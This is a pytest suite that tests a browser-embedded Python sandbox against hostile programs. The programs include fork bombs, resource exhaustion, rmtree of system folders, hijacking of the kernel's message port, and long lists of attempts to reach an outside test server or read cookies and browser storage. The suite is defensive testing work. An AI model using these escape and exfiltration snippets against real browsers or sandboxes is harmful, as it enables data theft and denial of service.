"""Programs that mean harm, in a real browser: each ends, and harms nothing but itself.

While they run the page goes on; afterwards the next program runs as if nothing had been. None
reaches the page, its storage or any server.
"""

import json
import re
import time
from collections.abc import Callable, Iterator
from itertools import accumulate
from pathlib import Path
from urllib.parse import unquote

import embedding
import pytest
from embedding import FIND, LONG, PLANT, Embedded, Told, untouched
from playwright.sync_api import Browser

pytestmark = pytest.mark.xdist_group("hostile")

Run = Callable[..., Told]
LIMIT = 3
"""Seconds that a program which never ends is given."""
SLACK = 8
"""Seconds that a busy machine may take longer to notice."""
BEATS_PER_SECOND = 4
"""Of the page's fifty a second, at the least: it is this slow only if something holds it up."""
GUARD = "This probably means that you are not using fork to start your"


@pytest.fixture(scope="module")
def outside(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, list[str]]]:
    """A server that nobody may reach, and who did."""
    folder = tmp_path_factory.mktemp("outside")
    (folder / "control").write_text("reached")
    with embedding.served(folder) as (address, reached):
        yield address, reached


@pytest.fixture(scope="module")
def host(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, list[str]]]:
    folder = tmp_path_factory.mktemp("own")
    embedding.put_into(folder)
    with embedding.served(folder) as (address, asked):
        yield address, asked


@pytest.fixture(scope="module")
def embedded(browser: Browser, host: tuple[str, list[str]]) -> Iterator[Embedded]:
    embedded = Embedded(browser, host[0])
    yield embedded
    embedded.close()


@pytest.fixture
def hostile(embedded: Embedded) -> Iterator[Run]:
    """Runs a program; the page must go on meanwhile, and run another afterwards."""

    def run(
        source: str,
        *acts: tuple[str, str],
        seconds: float = 20,
        orderly: bool = True,
        limits: dict[str, int] | None = None,
    ) -> Told:
        told = embedded.play(source, *acts, limits={"seconds": seconds, **(limits or {})})
        assert told.took < seconds + SLACK
        assert told.beats >= BEATS_PER_SECOND * (told.took - 1), "the page was held up"
        assert told.frames >= BEATS_PER_SECOND * (told.took - 1), "the page did not draw"
        assert len(told.exits) == 1
        if orderly:
            assert sorted(told.pids()) == sorted(told.pids("exit")), "each process ends once"
        return told

    yield run
    if embedded.crashes:
        embedded.renew()
        pytest.fail("the page went down")
    told = embedded.play("print('hello')")
    assert (told.out, told.err, told.code, told.reason) == ("hello\n", "", 0, "exit")


PORT = """
import js, os
from pyodide.ffi import create_proxy, to_js
def steal(self, *values):
    global port
    port = self
    post.call(self, *values)
post = js.MessagePort.prototype.postMessage
js.MessagePort.prototype.postMessage = create_proxy(steal, capture_this=True)
os.getppid()
js.MessagePort.prototype.postMessage = post
"""
"""How a program comes by the port to the kernel, which nobody gives it."""


# Those that never end.


def test_an_endless_loop_is_ended_when_its_time_is_up(hostile: Run) -> None:
    told = hostile("while True:\n    pass\n", seconds=LIMIT)
    assert (told.code, told.reason, told.out) == (-9, "time", "")
    assert LIMIT <= told.seconds < LIMIT + SLACK


@pytest.mark.parametrize("act", ["interrupt", "stop"])
def test_ctrl_c_in_an_endless_loop_is_a_keyboard_interrupt(hostile: Run, act: str) -> None:
    told = hostile("print('go')\nn = 0\nwhile True:\n    n += 1\n", ("go", act), limits=LONG)
    assert (told.code, told.reason, told.out) == (-2, "exit", "go\n")
    assert re.fullmatch(
        r"Traceback \(most recent call last\):\n"
        r'  File "/home/reader/main\.py", line [34], in <module>\n'
        r"(    .+\n)+KeyboardInterrupt\n",
        told.err,
    )


STUBBORN = """
import signal, time
signal.signal(signal.SIGINT, signal.SIG_IGN)
signal.signal(signal.SIGTERM, signal.SIG_IGN)
print("go", flush=True)
while True:
    try:
        {body}
    except BaseException:
        pass
"""


@pytest.mark.parametrize("body", ["time.sleep(100)", "sum(range(100))"])
def test_who_ignores_ctrl_c_is_killed(hostile: Run, body: str) -> None:
    told = hostile(STUBBORN.format(body=body), ("go", "stop"))
    assert (told.code, told.reason, told.out, told.err) == (-9, "stopped", "go\n", "")


def test_who_sleeps_for_ever_is_ended(hostile: Run) -> None:
    told = hostile("import time\ntime.sleep(10**9)\n", seconds=LIMIT)
    assert (told.code, told.reason) == (-9, "time")
    [main] = told.pids()
    assert [event["what"] for event in told.of(main) if event["kind"] == "wait"] == ["sleep"]


def test_a_wait_of_months_does_not_end_at_once(hostile: Run) -> None:
    source = "import multiprocessing\nmultiprocessing.Queue().get(timeout=10**8)\n"
    assert hostile(source, seconds=LIMIT).reason == "time"


def test_who_never_leaves_its_own_end_is_ended(hostile: Run) -> None:
    source = "import atexit\n@atexit.register\ndef stay():\n    while True: pass\nprint('end')\n"
    told = hostile(source, seconds=LIMIT)
    assert (told.code, told.reason, told.out) == (-9, "time", "end\n")


def test_who_traces_itself_for_ever_is_ended(hostile: Run) -> None:
    source = """
import sys
def trace(*_):
    while True: pass
sys.settrace(trace)
(lambda: None)()
"""
    assert hostile(source, seconds=LIMIT).reason == "time"


def test_who_never_comes_back_from_c_is_ended(hostile: Run) -> None:
    assert hostile("print(10 ** 10**8)\n", seconds=LIMIT).reason == "time"


def test_who_never_comes_back_from_javascript_is_stopped(hostile: Run) -> None:
    """Its handler does nothing: so a Ctrl-C that comes before it goes there ends nothing."""
    source = """
import js, signal
signal.signal(signal.SIGINT, lambda *_: None)
settings = {"initial": 1, "maximum": 1, "shared": True}
pairs = js.Array.of(*(js.Array.of(*item) for item in settings.items()))
word = js.Int32Array.new(js.WebAssembly.Memory.new(js.Object.fromEntries(pairs)).buffer)
print("go", flush=True)
js.Atomics.wait(word, 0, 0)
"""
    told = hostile(source, ("go", "stop"))
    assert (told.code, told.reason, told.out) == (-9, "stopped", "go\n")


# Deadlocks.


def test_join_before_the_queue_is_drained(hostile: Run) -> None:
    source = """
import multiprocessing
def put(queue):
    queue.put("x" * 10**6)
if __name__ == "__main__":
    queue = multiprocessing.Queue()
    child = multiprocessing.Process(target=put, args=(queue,))
    child.start()
    child.join()
    print(len(queue.get()))
"""
    told = hostile(source)
    assert (told.reason, told.out, len(told.left)) == ("deadlock", "", 1)


def test_two_locks_taken_crosswise(hostile: Run) -> None:
    source = """
import multiprocessing
def take(first, second, both):
    with first:
        if both.wait() == 0:
            print("both", flush=True)
        with second:
            print("never")
if __name__ == "__main__":
    a, b, both = multiprocessing.Lock(), multiprocessing.Lock(), multiprocessing.Barrier(2)
    orders = (a, b, both), (b, a, both)
    children = [multiprocessing.Process(target=take, args=order) for order in orders]
    for child in children: child.start()
    for child in children: child.join()
"""
    told = hostile(source)
    assert (told.out, told.reason, told.codes()) == ("both\n", "deadlock", [-9] * 3)
    told = hostile(source, ("both", "stop"), limits=LONG)
    assert (told.reason, told.code) == ("exit", -2)
    assert "KeyboardInterrupt\n" in told.err


def test_a_thread_that_has_ended_is_no_reason_to_go_on(hostile: Run) -> None:
    source = """
import multiprocessing, threading
thread = threading.Thread(target=print, args=("ended",))
thread.start()
thread.join()
lock = multiprocessing.Lock()
lock.acquire()
lock.acquire()
"""
    told = hostile(source)
    assert (told.reason, told.out) == ("deadlock", "ended\n")


# Those that want too much.


@pytest.mark.parametrize(
    "source",
    [
        "while True: print('spam' * 20)\n",
        "print('x' * 5_000_000)\n",
        "import sys\nwhile True: sys.stderr.write('x')\n",
        "import os\nwhile True: os.write(1, bytes(range(256)))\n",
    ],
    ids=["lines", "one enormous line", "letters", "no text"],
)
def test_a_flood_of_output_is_cut_at_its_limit(hostile: Run, source: str) -> None:
    told = hostile(source)
    assert (told.code, told.reason) == (-9, "output")
    assert len(told.out.encode()) + len(told.err.encode()) <= 1_000_000 * 3, "U+FFFD is three bytes"
    assert 900_000 <= len(told.out) + len(told.err) <= 1_000_000


def test_all_processes_flood_together(hostile: Run) -> None:
    source = """
import multiprocessing
def flood():
    while True: print("spam")
if __name__ == "__main__":
    for _ in range(4): multiprocessing.Process(target=flood).start()
"""
    told = hostile(source)
    assert (told.reason, len(told.out) <= 1_000_000) == ("output", True)


def test_the_page_hears_no_flood_of_names(hostile: Run) -> None:
    source = """
n = 0
while True:
    n += 1
    port.postMessage(to_js([0, "name", f"{n}" + "x" * 1000]))
"""
    told = hostile(PORT + source, seconds=1, orderly=False)
    assert max(len(event.get("name", "")) for event in told.events) == 100
    assert len(told.events) <= 200_001


@pytest.mark.parametrize(
    "hog",
    [
        "kept.append(bytearray(2**24))",
        "kept.append([0] * 1000)",
        "kept.append('x' * 2**30)",
        "kept.extend(kept or [0])",
    ],
)
def test_who_takes_too_much_memory_gets_a_memory_error(hostile: Run, hog: str) -> None:
    source = f"""
kept = []
try:
    while True:
        {hog}
except MemoryError:
    kept = None
    print("too much")
"""
    told = hostile(source, seconds=60)
    assert (told.out, told.err, told.code) == ("too much\n", "", 0)


def test_the_limit_of_memory_is_each_process_s_own(hostile: Run) -> None:
    source = """
import multiprocessing
def hog():
    try:
        kept = bytearray(2**27)
    except MemoryError:
        print("too much")
if __name__ == "__main__":
    children = [multiprocessing.Process(target=hog) for _ in range(2)]
    for child in children: child.start()
    for child in children: child.join()
"""
    assert hostile(source, limits={"memory": 2**27}).out == "too much\n" * 2
    assert hostile(source).out == ""


def test_who_fills_the_disk_hears_that_it_is_full(hostile: Run) -> None:
    source = """
import errno
written = 0
try:
    while True:
        with open(f"{folder}/{written}", "wb") as file:
            file.write(b"x" * 2**20)
        written += 1
except OSError as error:
    print(error.errno == errno.ENOSPC, written < 1024)
"""
    for folder in ("/home/reader", "/tmp", "/"):
        told = hostile(f"folder = {folder!r}\n{source}", seconds=60)
        assert (told.out, told.err, told.code) == ("True True\n", "", 0), folder


def test_who_lets_one_file_grow_hears_that_the_disk_is_full(hostile: Run) -> None:
    source = """
import errno
try:
    with open("big", "wb", buffering=0) as file:
        while True:
            file.write(b"x" * 2**20)
except OSError as error:
    print(error.errno == errno.ENOSPC)
"""
    told = hostile(source, seconds=60)
    assert (told.out, told.err, told.code) == ("True\n", "", 0)


def test_folders_without_end(hostile: Run) -> None:
    source = """
import os
try:
    n = 0
    while True:
        os.mkdir(f"/tmp/{n}")
        n += 1
except OSError:
    print("full")
"""
    told = hostile(source, seconds=60)
    assert (told.out, told.reason) == ("full\n", "exit")


def test_who_takes_every_descriptor_hears_that_there_are_no_more(hostile: Run) -> None:
    source = """
import _posixshmem, errno, itertools, os, socket
ends = os.pipe()
try:
    for n in itertools.count():
        {act}
except OSError as error:
    print(error.errno == errno.EMFILE)
"""
    for act in (
        "os.write(os.pipe()[1], bytes(65536))",
        "socket.socketpair()[0].detach()",
        "socket.socket().detach()",
        "os.dup(ends[n % 2])",
        "_posixshmem.shm_open(f'/{n}', os.O_CREAT | os.O_RDWR)",
    ):
        told = hostile(source.format(act=act))
        assert (told.out, told.err, told.code) == ("True\n", "", 0), act


def test_shared_memory_has_an_end(hostile: Run) -> None:
    source = """
import _posixshmem, errno, os
try:
    for n in range(1000):
        fd = _posixshmem.shm_open(f"/{n}", os.O_CREAT | os.O_EXCL | os.O_RDWR)
        os.ftruncate(fd, 2**26)
        os.close(fd)
except OSError as error:
    print(error.errno == errno.ENOSPC, n)
"""
    told = hostile(source)
    assert (told.out, told.code) == ("True 4\n", 0)


def test_more_goes_into_a_pipe_than_there_is_memory(hostile: Run) -> None:
    source = """
import multiprocessing
def send(pipe):
    try:
        while True: pipe.send_bytes(b"x" * 10**6)
    except BrokenPipeError:
        print("broken")
if __name__ == "__main__":
    there, here = multiprocessing.Pipe()
    child = multiprocessing.Process(target=send, args=(there,))
    child.start()
    there.close()
    print(sum(len(here.recv_bytes()) for _ in range(100)))
    here.close()
    child.join()
"""
    assert hostile(source, seconds=60).out == "100000000\nbroken\n"


def test_a_thousand_semaphores(hostile: Run) -> None:
    source = """
import multiprocessing
many = [multiprocessing.Semaphore(1) for _ in range(1000)]
print(all(each.acquire() for each in many), any(each.acquire(block=False) for each in many))
"""
    assert hostile(source, seconds=60).out == "True False\n"


@pytest.mark.parametrize(
    "source",
    [
        "def f(): f()\nf()\n",
        "def f(n=0): return [f(n) for _ in (1,)]\nf()\n",
    ],
)
def test_endless_recursion_is_a_recursion_error(hostile: Run, source: str) -> None:
    told = hostile(source)
    assert (told.code, told.reason) == (1, "exit")
    assert "\nRecursionError: " in told.err


def test_recursion_without_the_limit_ends_all_the_same(hostile: Run) -> None:
    source = "import sys\nsys.setrecursionlimit(10**9)\ndef f(): f()\nf()\n"
    assert hostile(source, seconds=LIMIT * 2).code != 0


def test_a_stack_that_overflows_in_c_kills_the_process_alone(hostile: Run) -> None:
    source = """
import multiprocessing, sys
def overflow():
    sys.setrecursionlimit(10**9)
    nested = []
    for _ in range(10**6): nested = [nested]
    repr(nested)
if __name__ == "__main__":
    child = multiprocessing.Process(target=overflow)
    child.start()
    child.join()
    print(child.exitcode)
"""
    told = hostile(source, seconds=60)
    assert told.out in ("-11\n", "1\n")
    assert "wasm" not in told.err, "nobody is helped by what the browser says to itself"


# Those that multiply.


def test_a_fork_bomb_stops_at_the_limit(hostile: Run) -> None:
    source = """
import multiprocessing, time
def bomb():
    while True:
        try:
            multiprocessing.Process(target=bomb).start()
        except BlockingIOError as error:
            print(error, flush=True)
            time.sleep(100)
if __name__ == "__main__":
    bomb()
"""
    told = hostile(source, ("unavailable", "stop"), seconds=60)
    assert "Resource temporarily unavailable\n" in told.out
    assert most_alive(told) == 32
    assert "wasm" not in told.err


def most_alive(told: Told) -> int:
    """How many processes there were at once."""
    steps = {"start": 1, "exit": -1}
    return max(accumulate(steps.get(event["kind"], 0) for event in told.events))


def test_a_limit_of_processes_is_kept(hostile: Run) -> None:
    source = """
import multiprocessing, time
if __name__ == "__main__":
    children = [multiprocessing.Process(target=time.sleep, args=(1,)) for _ in range(4)]
    for child in children: child.start()
"""
    told = hostile(source, limits={"processes": 3})
    assert told.code == 1
    assert told.err.splitlines()[-1].startswith("BlockingIOError: [Errno ")
    assert len(told.pids()) == most_alive(told) == 3


def test_a_process_without_the_guard(hostile: Run) -> None:
    source = """
import multiprocessing
def work(): pass
child = multiprocessing.Process(target=work)
child.start()
child.join()
print(child.exitcode)
"""
    told = hostile(source)
    assert (told.code, told.out, told.codes()) == (0, "1\n", [1, 0])
    assert told.err.count("RuntimeError: \n") == told.err.count(GUARD) == 1


def test_a_pool_without_the_guard_starts_children_until_its_time_is_up(hostile: Run) -> None:
    source = """
import multiprocessing
with multiprocessing.Pool(2) as pool:
    print(pool.map(abs, [1, 2]))
"""
    told = hostile(source, seconds=LIMIT)
    assert (told.reason, told.out) == ("time", "")
    assert GUARD in told.err


THREADS = """
import threading, time
def live():
    {life}
while True:
    threading.Thread(target=live, daemon=True).start()
"""


def test_a_bomb_of_threads_stops_at_the_limit(hostile: Run) -> None:
    told = hostile(THREADS.format(life="time.sleep(100)"), seconds=60)
    assert (told.code, told.reason) == (1, "exit")
    assert told.err.endswith("RuntimeError: can't start new thread\n")


def test_a_bomb_of_busy_threads_is_ended(hostile: Run) -> None:
    assert hostile(THREADS.format(life="while True: pass"), seconds=LIMIT).reason == "time"
    assert hostile(THREADS.format(life="live()"), seconds=LIMIT).code != 0


# Those that tear down what they stand on.


def test_os_exit_leaves_children_that_are_then_ended(hostile: Run) -> None:
    source = """
import multiprocessing, os, time
if __name__ == "__main__":
    for _ in range(3): multiprocessing.Process(target=time.sleep, args=(100,)).start()
    print("bye", flush=True)
    os._exit(7)
"""
    told = hostile(source)
    assert (told.code, told.reason, told.out, len(told.left)) == (7, "exit", "bye\n", 3)


def test_signals_to_whom_one_may_not_kill(hostile: Run) -> None:
    source = """
import multiprocessing, os, time
if __name__ == "__main__":
    child = multiprocessing.Process(target=time.sleep, args=(100,))
    child.start()
    for pid in (1, 2, 100, 99999, 10**12):
        try: print(pid, os.kill(pid, 9))
        except (OSError, OverflowError) as error: pass
    for number in (65, 1000, -1):
        try: print(number, os.kill(child.pid, number))
        except (OSError, ValueError): pass
    print(child.is_alive())
    os.kill(child.pid, 9)
    child.join()
    print(child.exitcode)
"""
    assert hostile(source).out == "True\n-9\n"


def test_a_child_kills_its_parent(hostile: Run) -> None:
    source = """
import multiprocessing, os, time
def kill():
    os.kill(os.getppid(), 9)
    time.sleep(0.1)
    print("orphan of", os.getppid(), flush=True)
if __name__ == "__main__":
    multiprocessing.Process(target=kill).start()
    time.sleep(100)
"""
    told = hostile(source)
    assert (told.code, told.reason, told.out) == (-9, "exit", "orphan of 1\n")


def test_a_handler_that_raises(hostile: Run) -> None:
    source = """
import signal, time
def handle(*_): raise ZeroDivisionError("in the handler")
signal.signal(signal.SIGINT, handle)
print("go", flush=True)
time.sleep(100)
"""
    told = hostile(source, ("go", "interrupt"))
    assert told.code == 1
    assert told.err.endswith("ZeroDivisionError: in the handler\n")


def test_standard_streams_that_are_closed(hostile: Run) -> None:
    told = hostile("import sys\nsys.stdout.close(); sys.stderr.close()\nprint('x')\n")
    assert (told.code, told.out) == (1, "")
    assert told.err.endswith("('I/O operation on closed file.')\nlost sys.stderr\n"), "as CPython"
    hostile("import os\nfor fd in 0, 1, 2: os.close(fd)\nprint('x')\n")


@pytest.mark.parametrize(
    "source",
    [
        "import sys\nfor name in list(sys.modules): del sys.modules[name]\nimport asyncio\n",
        "import builtins\nfor name in list(vars(builtins)): delattr(builtins, name)\n",
        "import _runtime.kernel\n_runtime.kernel.system = None\nprint('x')\n",
        "import os, shutil\nfor root in '/home', '/lib', '/usr': shutil.rmtree(root, True)\n",
        "import gc\nfor each in gc.get_objects(): hasattr(each, 'clear') and each.clear()\n",
        "import ctypes\nctypes.string_at(0, 2**31 - 1)\n",
    ],
    ids=["modules", "builtins", "runtime", "files", "objects", "memory"],
)
def test_who_saws_off_its_own_branch_falls_alone(hostile: Run, source: str) -> None:
    assert hostile(source, seconds=LIMIT * 2).reason in ("exit", "time")


# What is no program.


@pytest.mark.parametrize(
    ("source", "code", "out", "last"),
    [
        ("", 0, "", ""),
        ("SELECT * FROM users;\n", 1, "", "SyntaxError: invalid syntax"),
        (
            "print(1)\0print(2)\n",
            1,
            "",
            "SyntaxError: source code string cannot contain null bytes",
        ),
        ("\ufeffprint(1)\n", 0, "1\n", ""),
        ("print(ascii('\ud800'))\n", 0, "'\\ufffd'\n", ""),
        ("print('\\ud800')\n", 1, "", "surrogates not allowed"),
        ("print(1)\r\nprint(2)\r", 0, "1\n2\n", ""),
        ("x = 1\n" * 170_000 + "print(x)\n", 0, "1\n", ""),
        ("x = '" + "x" * 2**20 + "'\nprint(len(x))\n", 0, f"{2**20}\n", ""),
        ("(" * 10_000, 1, "", ""),
        ("if True:\n" + "".join(" " * n + "if 1:\n" for n in range(1, 200)), 1, "", ""),
    ],
    ids=[
        "empty",
        "SQL",
        "NUL",
        "BOM",
        "surrogate",
        "printed surrogate",
        "CR",
        "1 MB",
        "1 MB in one line",
        "brackets",
        "blocks",
    ],
)
def test_what_is_hardly_a_program(
    hostile: Run, source: str, code: int, out: str, last: str
) -> None:
    told = hostile(source, seconds=60)
    assert (told.code, told.reason, told.out) == (code, "exit", out)
    assert told.err.strip().endswith(last)


# Those that talk to the kernel behind Python's back.


def test_forged_messages_harm_the_forger_alone(hostile: Run, embedded: Embedded) -> None:
    hostile("print('warm')")
    script = (Path(__file__).parent / "forged.js").read_text("utf-8")
    found = embedded.page.evaluate(script, "/runtime/kernel/kernel.js")
    assert found["sent"] > 5000
    assert found["thrown"] == []
    assert (found["ended"], found["polluted"]) == ([], False)
    assert found["replied"] == [1, 2, 3, 4, 5, 6, 7, 8]
    assert (found["read"], found["first"]) == ([3], ["reply", 99, 101])


FLOOD = """
import multiprocessing
def flood():
    message = to_js([0, "getpid"])
    post = port.postMessage
    print("go", flush=True)
    while True: post(message)
if __name__ == "__main__":
    for _ in range({others}): multiprocessing.Process(target=flood).start()
    flood()
"""


@pytest.mark.parametrize("others", [0, 7])
def test_a_kernel_that_drowns_in_messages_is_ended_all_the_same(hostile: Run, others: int) -> None:
    source = PORT + FLOOD.format(others=others)
    told = hostile(source, ("go", "stop"), seconds=60, orderly=False)
    assert told.reason in ("exit", "stopped")
    assert told.took < SLACK * 2
    assert hostile(source, seconds=LIMIT, orderly=False).reason == "time"


SPENT = """async ([hog, seconds]) => {
  const ends = [];
  for (const source of [hog, "print('hello')"]) {
    const {code, reason, out, took, message} = await play({source, limits: {seconds}});
    ends.push({code, reason, out, took, message});
  }
  await fetch("/told?" + encodeURIComponent(JSON.stringify(ends)));
}"""


def test_where_the_browser_itself_runs_out_of_memory_the_page_goes_on(
    browser: Browser, host: tuple[str, list[str]]
) -> None:
    """The frame's process dies, not the page's; but Playwright asks no more, so the page tells."""
    source = """
import js
kept = js.Array.new()
while True:
    kept.push(js.Array.new(100000).fill(1.5))
"""
    address, asked = host
    embedded = Embedded(browser, address)
    embedded.page.evaluate(f"order => {{ ({SPENT})(order); }}", [source, 60])
    until = time.monotonic() + 60 + SLACK
    while not (told := [path for path in asked if path.startswith("/told?")]):
        assert time.monotonic() < until, "the page never hears of it"
        embedded.wait(0.2)
    hog, hello = json.loads(unquote(told[0].partition("?")[2]))
    assert hog["code"] != 0
    assert (hello["code"], hello["out"]) == (0, "hello\n")
    embedded.close()


# Those that reach out.

TRIES = """
import js, pyodide, pyodide.code, pyodide.http, pyodide_js, time
OUTSIDE, PAGE = {outside!r}, {page!r}
for name in ("fetch", "importScripts"):  # what the runtime has put over the browser's own
    js.Reflect.deleteProperty(js.self, name)
def script(text):
    settings = js.Object.fromEntries(js.Array.of(js.Array.of("type", "text/javascript")))
    return js.URL.createObjectURL(js.Blob.new(js.Array.of(text), settings))
def off_prototype(name, *values):
    chain = js.self
    while not (found := js.Object.getOwnPropertyDescriptor(chain, name)):
        chain = js.Object.getPrototypeOf(chain)
    return js.Reflect.apply(found.value, js.self, js.Array.of(*values))
def within(text):
    off_prototype("importScripts", script("self.within = (url) => " + text))
    return js.self.within(OUTSIDE + "/within")
def asked(request, url):
    request.open("GET", url, False)
    request.send()
done = 0
for name, attempt in {{
{tries}
}}.items():
    try:
        found = attempt()
        print(name, "gave", type(found).__name__, flush=True)
    except BaseException as error:
        print(name, "raised", type(error).__name__, flush=True)
    done += 1
time.sleep(0.5)
print("tried", done)
"""

NETWORK = """
    "fetch": lambda: js.fetch(OUTSIDE + "/fetch"),
    "fetch, inherited": lambda: off_prototype("fetch", OUTSIDE + "/inherited"),
    "fetch from the page's server": lambda: off_prototype("fetch", PAGE + "/stolen"),
    "XMLHttpRequest": lambda: asked(js.XMLHttpRequest.new(), OUTSIDE + "/xhr"),
    "WebSocket": lambda: js.WebSocket.new(OUTSIDE.replace("http", "ws") + "/ws"),
    "WebSocketStream": lambda: js.WebSocketStream.new(OUTSIDE.replace("http", "ws") + "/wss"),
    "WebTransport": lambda: js.WebTransport.new(OUTSIDE.replace("http", "https") + "/wt"),
    "EventSource": lambda: js.EventSource.new(OUTSIDE + "/events"),
    "importScripts": lambda: off_prototype("importScripts", OUTSIDE + "/scripts"),
    "import()": lambda: within("import(url)"),
    "import() from the page's server": lambda: within("import('" + PAGE + "/stolen')"),
    "import() of data:": lambda: within("import('data:text/javascript,1').then(() => import(url))"),
    "fetch in a script": lambda: within("fetch(url)"),
    "Worker": lambda: js.Worker.new(OUTSIDE + "/worker"),
    "Worker in a script": lambda: within("new Worker(url)"),
    "Worker of a blob": lambda: js.Worker.new(script("fetch('" + OUTSIDE + "/blob')")),
    "SharedWorker": lambda: js.SharedWorker.new(OUTSIDE + "/shared"),
    "FontFace": lambda: js.FontFace.new("x", "url(" + OUTSIDE + "/font)").load(),
    "fonts": lambda: within("fonts.load('12px x', fonts.add(new FontFace('x', `url(${url})`)))"),
    "sendBeacon": lambda: js.navigator.sendBeacon(OUTSIDE + "/beacon", "x"),
    "service worker": lambda: js.navigator.serviceWorker.register(OUTSIDE + "/sw"),
    "location": lambda: js.location.assign(OUTSIDE + "/location"),
    "location, set": lambda: setattr(js.self, "location", OUTSIDE + "/location"),
    "open": lambda: js.open(OUTSIDE + "/open"),
    "WebAssembly": lambda: within("WebAssembly.compileStreaming(fetch(url))"),
    "RTCPeerConnection": lambda: js.RTCPeerConnection.new(),
    "eval": lambda: js.eval("fetch('" + OUTSIDE + "/eval')"),
    "Function": lambda: js.Function.new("return fetch('" + OUTSIDE + "/function')")(),
    "setTimeout": lambda: js.setTimeout("fetch('" + OUTSIDE + "/timeout')", 0),
    "run_js": lambda: pyodide.code.run_js("fetch('" + OUTSIDE + "/run_js')"),
    "constructor": lambda: js.fetch.constructor.new("return fetch('" + OUTSIDE + "/ctor')")(),
    "loadPackage": lambda: pyodide_js.loadPackage(OUTSIDE + "/a-1-py3-none-any.whl"),
    "pyfetch": lambda: pyodide.http.pyfetch(OUTSIDE + "/pyfetch").send(None),
    "open_url": lambda: pyodide.http.open_url(OUTSIDE + "/open_url"),
    "preloaded file": lambda: pyodide_js.FS.createPreloadedFile(
        "/tmp", "preloaded", OUTSIDE + "/preloaded", True, False
    ),
    "urllib": lambda: __import__("urllib.request").request.urlopen(OUTSIDE + "/urllib"),
    "socket": lambda: __import__("socket").create_connection(("127.0.0.1", int(OUTSIDE[17:]))),
    "a name": lambda: __import__("socket").create_connection(("example.org", 80)),
    "subprocess": lambda: __import__("subprocess").run(["curl", OUTSIDE + "/curl"]),
    "webbrowser": lambda: __import__("webbrowser").open(OUTSIDE + "/browser"),
"""

KERNEL = """async (url) => {
  const found = {};
  const attempt = async (name, act) => {
    found[name] = await Promise.race([
      (async () => act())().then((value) => `gave ${value}`, (error) => "refused"),
      new Promise((resolve) => setTimeout(resolve, 1000, "silent")),
    ]);
  };
  const event = (target) => new Promise((resolve, reject) => {
    target.onerror = reject;
    target.onopen = target.onmessage = resolve;
  });
  const nested = new Blob([`fetch("${url}/nested").then(postMessage, reportError)`]);
  await attempt("fetch", () => fetch(url + "/fetch"));
  await attempt("no-cors", () => fetch(url + "/opaque", {mode: "no-cors"}));
  await attempt("import", () => import(url + "/import"));
  await attempt("WebSocket", () => event(new WebSocket(url.replace("http", "ws") + "/ws")));
  await attempt("EventSource", () => event(new EventSource(url + "/events")));
  await attempt("Worker", () => event(new Worker(url + "/worker")));
  await attempt("nested", () => event(new Worker(URL.createObjectURL(nested))));
  await attempt("FontFace", () => new FontFace("x", `url(${url}/font)`).load());
  await attempt("indexedDB", () => event(indexedDB.open("secret")));
  await attempt("eval", () => eval("1"));
  await attempt("XMLHttpRequest", () => {
    const request = new XMLHttpRequest();
    request.open("GET", url + "/xhr", false);
    request.send();
  });
  return found;
}"""


def test_the_kernel_s_worker_which_has_all_its_functions_reaches_nothing_either(
    hostile: Run, embedded: Embedded, outside: tuple[str, list[str]]
) -> None:
    """What a program finds missing is for show; this is the policy that holds it."""
    hostile("print('warm')")
    address, reached = outside
    reached.clear()
    found = embedded.page.workers[0].evaluate(KERNEL, address)
    assert len(found) == 11
    assert set(found.values()) == {"refused"}, found
    assert reached == []


STORAGE = """
    "localStorage": lambda: js.localStorage.getItem("secret"),
    "sessionStorage": lambda: js.sessionStorage.getItem("secret"),
    "indexedDB": lambda: js.indexedDB.open("secret"),
    "indexedDB, all": lambda: within("indexedDB.databases().then((all) => self.stolen = all)"),
    "caches": lambda: js.caches.open("secret"),
    "cookies": lambda: js.cookieStore.get("secret"),
    "document.cookie": lambda: js.document.cookie,
    "files": lambda: js.navigator.storage.getDirectory(),
    "buckets": lambda: js.navigator.storageBuckets.open("secret"),
    "file system": lambda: js.webkitRequestFileSystemSync(0, 1024),
    "locks": lambda: js.navigator.locks.query(),
    "IDBFS": lambda: pyodide_js.FS.filesystems.IDBFS.indexedDB().open("secret"),
    "NativeFS": lambda: pyodide_js.mountNativeFS("/mnt", js.Object.new()),
"""

OWN_PAGE = """
    "parent": lambda: setattr(js.parent.document.body, "innerHTML", "harmed"),
    "top": lambda: setattr(js.top, "location", OUTSIDE + "/top"),
    "opener": lambda: js.opener.document,
    "window": lambda: js.window.document,
    "document": lambda: js.document.body,
    "frameElement": lambda: js.frameElement.remove(),
    "parent.postMessage": lambda: js.parent.postMessage("harmed", "*"),
    "BroadcastChannel": lambda: js.BroadcastChannel.new("secret").postMessage("harmed"),
    "clients": lambda: js.clients.matchAll(),
    "alert": lambda: js.alert("harmed"),
    "Notification": lambda: js.Notification.new("harmed"),
    "permission": lambda: js.Notification.requestPermission(),
    "console": lambda: js.console.log("%c harmed", "background: url(" + OUTSIDE + "/console)"),
"""


@pytest.mark.parametrize("tries", [NETWORK, STORAGE, OWN_PAGE], ids=["network", "storage", "page"])
def test_nothing_is_reached(
    tries: str,
    hostile: Run,
    embedded: Embedded,
    host: tuple[str, list[str]],
    outside: tuple[str, list[str]],
) -> None:
    address, reached = outside
    reached.clear()
    embedded.page.evaluate(
        "(url) => fetch(url, {mode: 'no-cors', cache: 'no-store'})", f"{address}/control"
    )
    assert reached == ["/control"], "the page itself can"
    reached.clear()
    embedded.page.evaluate(PLANT)
    embedded.play("print('warm')")
    asked = len(host[1])
    told = hostile(TRIES.format(outside=address, page=host[0], tries=tries), orderly=False)
    assert told.out.endswith(f"tried {tries.count('lambda:')}\n"), told.out + told.err
    assert "kept" not in told.out
    assert (reached, host[1][asked:]) == ([], [])
    assert embedded.page.evaluate(FIND) == untouched(host[0])


GUARDS = {
    "index.js": '<meta http-equiv="Content-Security-Policy" content="${POLICY}">',
    "process/interpreter.js": "delete scope[name]",
}
"""What keeps a program from all that: the policy, and that functions are taken away."""


def test_without_its_guards_much_is_reached(
    browser: Browser, outside: tuple[str, list[str]], tmp_path: Path
) -> None:
    """Or else it would prove nothing that with them nothing is."""
    embedding.put_into(tmp_path)
    for name, guard in GUARDS.items():
        file = tmp_path / "runtime" / name
        whole = file.read_text("utf-8")
        assert whole.count(guard) == 1
        file.write_text(whole.replace(guard, "").ljust(len(whole)), "utf-8")
    address, reached = outside
    reached.clear()
    with embedding.served(tmp_path) as (own, _):
        embedded = Embedded(browser, own)
        embedded.play(TRIES.format(outside=address, page=own, tries=NETWORK))
